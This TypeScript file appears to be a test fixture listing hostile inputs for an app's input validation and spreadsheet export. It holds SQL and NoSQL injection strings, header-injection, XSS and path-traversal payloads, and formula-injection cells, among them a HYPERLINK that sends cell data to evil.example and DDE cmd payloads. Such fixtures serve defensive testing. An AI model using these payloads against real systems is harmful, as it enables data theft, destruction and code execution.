/** What attackers put where a name, a filter or an id is expected. */

export const SQL: readonly string[] = [
  "' OR '1'='1",
  "'; DROP TABLE practice_session; --",
  "' UNION SELECT password_hash FROM admin_user --",
  '" OR ""="',
  '1; SELECT pg_sleep(9)--',
  "'||pg_sleep(9)||'",
  '1) OR (1=1',
  "\\'; DELETE FROM admin_session --",
  '$1',
  '%%%',
  '_%_',
  "E'\\x27'",
  "started_at)); SELECT 'x",
];

export const JSON_SHAPES: readonly string[] = [
  '{"$ne":null}',
  '{"$gt":""}',
  '["a","b"]',
  '"; return true; var x="',
  '{"__proto__":{"isAdmin":true}}',
  'null',
  'true',
];

export const HEADERS: readonly string[] = [
  'a\r\nSet-Cookie: parley_admin=stolen',
  'a\nLocation: https://evil.example',
  'a\r\n\r\n<script>alert(1)</script>',
  'a\u2028Set-Cookie: x=y',
];

export const MARKUP: readonly string[] = [
  '<script>alert(1)</script>',
  '"><img src=x onerror=alert(1)>',
  "javascript:alert('1')",
  '{{constructor.constructor("alert(1)")()}}',
];

export const PATHS: readonly string[] = ['../../etc/passwd', '..\\..\\etc\\passwd', '/etc/passwd\u0000.csv'];

export const HOSTILE_TEXTS: readonly string[] = [...SQL, ...JSON_SHAPES, ...HEADERS, ...MARKUP, ...PATHS];

/** Lessons that a spreadsheet might take for formulas, and what else might break out of a cell. */
export const HOSTILE_CELLS: readonly string[] = [
  '=1+1',
  '=HYPERLINK("http://evil.example?x="&A1,"click")',
  "=cmd|' /C calc'!A0",
  '+1+1',
  '-1+1',
  '-2+3+cmd|x',
  '@SUM(1+1)*cmd',
  '＝1+1',
  '＋1+1',
  '－1+1',
  '＠SUM(A1)',
  ' =1+1',
  '\u00a0=1+1',
  '\u3000＝1+1',
  '\t=1+1',
  '=1+1"',
  '"=1+1"',
  'x","=1+1","',
  'x,=1+1',
  'x;=1+1',
  'x;=1+1;y',
  'x\t=1+1',
  'x";"=1+1',
  "'=1+1",
  'x\u0085=1+1',
  '=',
  'x"',
  '""',
];
